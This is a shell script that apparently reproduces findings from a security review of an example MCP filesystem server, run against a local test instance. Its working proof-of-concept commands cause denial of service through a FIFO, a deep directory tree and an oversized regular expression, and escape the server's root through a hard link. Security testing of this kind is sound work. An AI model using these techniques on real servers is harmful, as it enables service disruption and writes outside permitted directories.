#!/bin/sh
# Reproductions of the hostile review of examples/filesystem (round: fs).
# Run from the worktree root. Starts a server on 127.0.0.1:18777 over
# /tmp/hx/root; stop it with: kill $(cat /tmp/hx/fs.pid)
set -x
mkdir -p /tmp/hx && go build -o /tmp/hx/fs ./examples/filesystem && go build -tags attack -o /tmp/hx/c ./attack/fsclient
rm -rf /tmp/hx/root /tmp/hx/outside; mkdir -p /tmp/hx/root /tmp/hx/outside
echo SECRET > /tmp/hx/outside/secret; echo hello > /tmp/hx/root/a.txt
/tmp/hx/fs -addr 127.0.0.1:18777 /tmp/hx/root > /tmp/hx/fs.log 2>&1 & echo $! > /tmp/hx/fs.pid; sleep 1
C="/tmp/hx/c http://127.0.0.1:18777/mcp"
# FS-1: FIFO inside a root: read hangs, one OS thread per call stays blocked
mkfifo /tmp/hx/root/fifo
for i in $(seq 1 100); do timeout 2 $C tools/call read_text_file '{"name":"read_text_file","arguments":{"path":"fifo"}}' >/dev/null 2>&1 & done; wait
grep Threads /proc/$(cat /tmp/hx/fs.pid)/status   # ~100+ threads, stays
# FS-2: deep tree made by one create_directory, then search_files is quadratic
python3 -c "import json;print(json.dumps({'name':'create_directory','arguments':{'path':'/'.join(['x4000']+['d']*4000)}}))" > /tmp/hx/d.json
$C tools/call create_directory @/tmp/hx/d.json | head -1
$C tools/call search_files '{"name":"search_files","arguments":{"path":"x4000","pattern":"zz"}}' | head -1   # ~25 s (2000: 6.6 s, 8000: 111 s)
# FS-3: hard link to an outside file is read AND written
ln /tmp/hx/outside/secret /tmp/hx/root/hard
$C tools/call write_file '{"name":"write_file","arguments":{"path":"hard","content":"OVERWRITTEN\n"}}' | head -1; cat /tmp/hx/outside/secret
# FS-4: search_content regexp cost = pattern size x input, not cancelled
mkdir -p /tmp/hx/root/re; python3 -c "print('b'*1000)" > /tmp/hx/root/re/L.txt
python3 -c "import json;print(json.dumps({'name':'search_content','arguments':{'path':'re','query':'|'.join('(a%db[^q]c)'%i for i in range(70000)),'mode':'regexp'}}))" > /tmp/hx/re2.json
timeout 10 $C tools/call search_content @/tmp/hx/re2.json; ps -o time= -p $(cat /tmp/hx/fs.pid)   # keeps burning CPU after the client left
